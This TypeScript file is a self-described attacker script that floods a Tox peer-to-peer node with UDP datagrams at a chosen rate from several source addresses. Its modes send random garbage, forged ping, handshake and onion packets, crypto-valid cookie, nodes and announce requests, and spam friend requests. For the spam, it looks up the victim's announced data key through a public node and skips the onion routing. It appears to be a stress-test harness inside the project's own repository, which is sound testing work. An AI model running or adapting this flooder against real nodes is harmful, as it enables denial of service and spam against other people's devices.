/**
 * An attacker: `flooder.ts KIND HOST PORT DHTKEY TOXID RATE SECONDS ENTRY SOURCE...` sends datagrams of one kind to a
 * node, RATE a second, in turn from each of the SOURCE addresses. ENTRY is the `HOST:PORT:KEY` of a public node. Prints
 * how many were sent.
 */
import { randomBytes, randomFillSync } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import {
  fromHex,
  generateKeyPair,
  KEY_SIZE,
  type KeyPair,
  type PublicKey,
  randomNonce,
  type SharedKey,
} from '../../packages/tox/src/crypto/keys.ts';
import { open, seal, sharedKey } from '../../packages/tox/src/crypto/sodium.ts';
import { systemEnv } from '../../packages/tox/src/node/system-env.ts';
import { encodeCookieRequest } from '../../packages/tox/src/packet/crypto.ts';
import { encodeNodesRequest, NODES_REQUEST, writeDhtFrame } from '../../packages/tox/src/packet/dht.ts';
import { encodeFriendRequest, type Nospam } from '../../packages/tox/src/packet/friend.ts';
import {
  ONION_DATA_FRIEND_REQUEST,
  readAnnounceResponse,
  readAnnounceResponsePlain,
  readOnionResponse,
  STORED,
  writeAnnounceRequest,
  writeAnnounceRequestPlain,
  writeDataResponse,
  writeSignedData,
} from '../../packages/tox/src/packet/onion.ts';

const [kind, host, port, dhtKeyHex, toxIdHex, rate, seconds, entry, ...sources] = process.argv.slice(2) as string[];
const env = systemEnv();
const target = fromHex(dhtKeyHex!, KEY_SIZE) as PublicKey;
const toxId = Buffer.from(toxIdHex!, 'hex');
const realKey = new Uint8Array(toxId.subarray(0, KEY_SIZE)) as PublicKey;
const TICK_MS = 10;

/** Strangers with valid keys of their own: few enough that the attacker has the crypto behind it. */
const strangers = Array.from({ length: 64 }, () => {
  const keys = generateKeyPair(env);
  return { keys, shared: sharedKey(target, keys.secretKey)! };
});

type Maker = (stranger: { keys: KeyPair; shared: SharedKey }) => Uint8Array;

const makers: Record<string, () => Maker | Promise<Maker>> = {
  /** Random bytes of any size up to the largest datagram there is. */
  garbage: () => () => randomBytes(Math.random() < 0.01 ? 60_000 : 1 + Math.floor(Math.random() * 2_000)),
  /** Well-formed outside, each by a key of its own: what costs the receiver most. */
  pings: () => () => forged(0x00, 82),
  handshakes: () => () => forged(0x1a, 385),
  onion: () => () => forged(0x80, 403),
  requests: () => () => forged(0x20, 600),
  cookies: () => (stranger) =>
    encodeCookieRequest(
      stranger.shared,
      randomNonce(env),
      stranger.keys.publicKey,
      stranger.keys.publicKey,
      randomBytes(8),
    ),
  nodes: () => (stranger) => {
    const plain = encodeNodesRequest({ target: randomBytes(KEY_SIZE) as Uint8Array as PublicKey, id: randomBytes(8) });
    return writeDhtFrame(NODES_REQUEST, stranger.keys.publicKey, randomNonce(env), stranger.shared, plain);
  },
  announces: () => (stranger) =>
    announceRequest(stranger.keys, stranger.shared, stranger.keys.publicKey, stranger.keys.publicKey),
  /** With the right nospam, each by a key of its own, straight to the node instead of through the onion. */
  async friends() {
    const dataKey = await findDataKey();
    const shared = new Map(strangers.map(({ keys }) => [keys, sharedKey(dataKey, keys.secretKey)!]));
    return ({ keys }) => {
      const sender = generateKeyPair(env);
      const nonce = randomNonce(env);
      const nospam = toxId.subarray(KEY_SIZE, KEY_SIZE + 4) as Uint8Array as Nospam;
      const body = encodeFriendRequest(ONION_DATA_FRIEND_REQUEST, { nospam, message: Buffer.from('buy now') });
      const box = seal(sharedKey(realKey, sender.secretKey)!, nonce, body);
      const outer = seal(shared.get(keys)!, nonce, writeSignedData({ sender: sender.publicKey, box }));
      return writeDataResponse(Buffer.concat([nonce, keys.publicKey, outer]));
    };
  },
};

const sockets = await Promise.all(sources.map((address) => bind(address)));
const make = await makers[kind!]!();
let sent = 0;
const perTick = (Number(rate) * TICK_MS) / 1000;
const began = performance.now();
const timer = setInterval(() => {
  const due = Math.floor((performance.now() - began) / TICK_MS) * perTick;
  for (; sent < due; sent++) {
    const data = make(strangers[sent % strangers.length]!);
    sockets[sent % sockets.length]!.send(data, Number(port), host);
  }
  if (performance.now() - began < Number(seconds) * 1000) return;
  clearInterval(timer);
  for (const socket of sockets) socket.close();
  console.log(sent);
}, TICK_MS);

function forged(first: number, size: number): Uint8Array {
  const data = randomFillSync(new Uint8Array(size));
  data[0] = first;
  if (first === 0x20) data.set(target, 1); // for the node itself
  return data;
}

/** As the last hop of a path sends it: the return block is ours to make up. */
function announceRequest(keys: KeyPair, shared: SharedKey, searched: PublicKey, dataKey?: PublicKey): Uint8Array {
  const plain = writeAnnounceRequestPlain({
    pingId: new Uint8Array(32),
    searched,
    dataKey: dataKey ?? (new Uint8Array(KEY_SIZE) as PublicKey),
    sendback: new Uint8Array(8),
  });
  const nonce = randomNonce(env);
  const request = writeAnnounceRequest({ nonce, publicKey: keys.publicKey, box: seal(shared, nonce, plain) });
  return Buffer.concat([request, randomBytes(177)]);
}

/** Asks the public node, where the victim has announced itself. */
async function findDataKey(): Promise<PublicKey> {
  const [entryHost, entryPort, entryKey] = entry!.split(':');
  const { keys } = strangers[0]!;
  const shared = sharedKey(fromHex(entryKey!, KEY_SIZE) as PublicKey, keys.secretKey)!;
  const socket = await bind();
  socket.send(announceRequest(keys, shared, realKey), Number(entryPort), entryHost);
  const [data] = (await once(socket, 'message')) as [Uint8Array];
  socket.close();
  const response = readAnnounceResponse(readOnionResponse(data)!.payload)!;
  const plain = readAnnounceResponsePlain(open(shared, response.nonce, response.box)!, false)!;
  if (plain.status !== STORED) throw new Error('the victim is not announced there');
  return plain.value as PublicKey;
}

async function bind(address?: string): Promise<Socket> {
  const socket = createSocket('udp4').bind(0, address);
  await once(socket, 'listening');
  return socket;
}
